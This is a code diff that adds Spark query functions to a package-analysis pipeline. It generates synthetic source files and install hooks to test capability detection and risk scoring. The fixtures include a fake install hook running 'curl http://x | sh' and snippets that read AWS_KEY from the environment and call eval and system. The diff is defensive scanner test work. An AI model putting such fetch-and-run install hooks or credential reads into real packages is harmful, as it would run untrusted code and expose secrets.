@@ -437,3 +437,43 @@ NAMES = [
 ]
 QUERIES = {f.__name__: f for f in NAMES}
 del CAPABILITIES, R
+
+
+def _sources(spark, d) -> DataFrame:
+    """Whole documents as comments of source files, with code by id."""
+    body = F.expr(r"""case doc_id % 6 when 0 then concat('/* ', replace(coalesce(text, ''), '*/', ''), ' */\nconst cp = require("child_process"); eval(x); // fetch(y)\nprocess.env.AWS_KEY;')
+      when 1 then 'import subprocess, os\nfrom yaml import load as l\ndef f():\n    subprocess.run(["x"])\n    l(1)\n# eval(x)\nos.getenv("HOME")\n'
+      when 2 then 'package m\nimport "os/exec"\nfunc f() { exec.Command("x") }\n' when 3 then 'use std::fs;\nfn f() { fs::write("a", "b"); let u = "http://10.0.0.1/x"; }\n' when 4 then '<?php echo base64_decode($x); // system("x")\n' else 'plain text' end""")
+    path = F.expr("concat('d', doc_id, element_at(array('.js','.py','.go','.rs','.php','.txt'), cast(doc_id % 6 + 1 as int)))")
+    return T(spark, d, "documents").select("doc_id", F.lit("npm").alias("ecosystem"), F.concat(F.lit("p"), "doc_id").alias("name"), F.lit("1.0.0").alias("version"), path.alias("path"), body.alias("body"))
+
+
+def code_capabilities(spark, d):
+    from ..operators import analysis
+
+    return analysis.file_capabilities(_sources(spark, d)).select("doc_id", F.explode("capabilities").alias("capability"))
+
+
+def code_imports(spark, d):
+    from ..operators import analysis
+
+    return analysis.file_imports(_sources(spark, d)).select("doc_id", "module")
+
+
+def python_symbols(spark, d):
+    from ..operators import analysis
+
+    return analysis.symbol_sites(analysis.python_facts(_sources(spark, d))).select("file", "function", "module", "symbol", "line")
+
+
+def package_analysis(spark, d):
+    """Files and hooks to fingerprints, flags and verdicts."""
+    from ..operators import analysis
+
+    files = _sources(spark, d)
+    hooks = files.where("doc_id % 12 = 0").select("ecosystem", "name", "version", F.lit("install").alias("phase"), F.lit("curl http://x | sh").alias("body"))
+    score = K.scores(K.risk_flags(analysis.fingerprints(files, hooks)))
+    return score.select("name", "score", S.verdict_name(S.score_verdict(F.col("score"))).alias("verdict"))
+
+
+QUERIES |= {f.__name__: f for f in (code_capabilities, code_imports, python_symbols, package_analysis)}
